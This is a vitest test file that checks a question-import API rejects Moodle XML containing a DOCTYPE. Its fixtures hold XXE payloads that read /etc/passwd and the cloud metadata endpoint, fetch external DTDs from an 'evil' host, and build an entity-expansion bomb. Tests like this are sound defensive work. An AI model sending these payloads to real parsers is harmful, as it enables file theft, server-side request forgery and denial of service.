/**
 * Moodle XML with a DOCTYPE (issue 22 part 4): an external entity (XXE) was a 500
 * ("External entities are not supported"); any DOCTYPE — external entities, internal
 * entity bombs — is now a clear 400 that says what to do, and nothing is stored.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createExam, registerWorkspace, type TestServer } from '../harness.js';
import { startImportServer, upload } from './http.js';

let s: TestServer;
let ws: Awaited<ReturnType<typeof registerWorkspace>>;
let examId = '';
beforeAll(async () => {
  s = await startImportServer();
  ws = await registerWorkspace(s.baseUrl);
  examId = (await createExam(s.baseUrl, ws.apiKey, ws.id)).id;
});
afterAll(() => s.close());

const QUIZ = '<quiz><question type="truefalse"><name><text>t</text></name><questiontext format="html"><text>&xxe; is here</text></questiontext><answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer></question></quiz>';
const HOSTILE = {
  'external entity (file)': `<?xml version="1.0"?>\n<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${QUIZ}`,
  'external entity (http)': `<?xml version="1.0"?>\n<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n${QUIZ}`,
  'external DTD': `<?xml version="1.0"?>\n<!DOCTYPE quiz SYSTEM "http://example.com/evil.dtd">\n${QUIZ.replace('&xxe;', 'x')}`,
  'entity expansion bomb': `<?xml version="1.0"?>\n<!DOCTYPE quiz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY xxe "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n${QUIZ}`,
  'parameter entity': `<?xml version="1.0"?>\n<!-- exported -->\n<!DOCTYPE quiz [<!ENTITY % p SYSTEM "http://example.com/p.dtd"> %p;]>\n${QUIZ.replace('&xxe;', 'x')}`,
};

describe('Moodle XML with a DOCTYPE', () => {
  for (const [name, xml] of Object.entries(HOSTILE)) {
    it(`${name}: 400 with a clear message, nothing stored`, async () => {
      for (const fields of [{ file: { bytes: xml, name: 'bank.xml' } }, { text: xml }]) {
        const r = await upload(s.baseUrl, ws.apiKey, '/questions/import', { ...fields, workspaceId: ws.id, examId, format: 'moodle-xml' });
        expect(r.status, JSON.stringify(r.body)).toBe(400);
        expect(r.headers.get('content-type')).toContain('application/problem+json');
        expect(r.body.detail).toMatch(/DOCTYPE/);
        expect(JSON.stringify(r.body)).not.toMatch(/root:|meta-data\/ami/);
      }
      // detected without a format too
      const auto = await upload(s.baseUrl, ws.apiKey, '/questions/import', { text: xml, workspaceId: ws.id, examId });
      expect(auto.status).toBeLessThan(500);
      expect(s.deps.sqlite.prepare('SELECT count(*) AS n FROM questions WHERE exam_id = ?').get(examId)).toEqual({ n: 0 });
    });
  }

  it('a plain Moodle XML file still imports', async () => {
    const r = await upload(s.baseUrl, ws.apiKey, '/questions/import', { text: `<?xml version="1.0" encoding="UTF-8"?>\n${QUIZ.replace('&xxe;', 'Water boils at 100 °C at sea level.')}`, workspaceId: ws.id, examId, format: 'moodle-xml', dryRun: 'true' });
    expect(r.status).toBe(200);
    expect(r.body.questions).toHaveLength(1);
  });
});
